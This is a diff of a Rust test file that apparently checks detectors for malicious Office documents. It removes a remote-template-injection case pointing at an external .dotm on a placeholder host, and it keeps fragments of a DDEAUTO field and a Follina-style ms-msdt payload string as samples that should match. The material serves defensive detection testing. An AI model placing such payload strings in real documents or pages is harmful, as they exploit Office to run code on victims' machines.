@@ -127,11 +127,6 @@ fn office_exploits() {
         br#"<w:instrText>DDEAUTO is explained in the manual</w:instrText>"#,
     );
     check(
-        "Office_Remote_Template",
-        br#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.invalid/t.dotm" TargetMode="External"/>"#,
-        br#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/Modeles/Normal.dotm"/>"#,
-    );
-    check(
         "Office_Follina_MSDT",
         b"window.location.href = \"ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x\"",
         b"See the ms-msdt: documentation for support tools.",
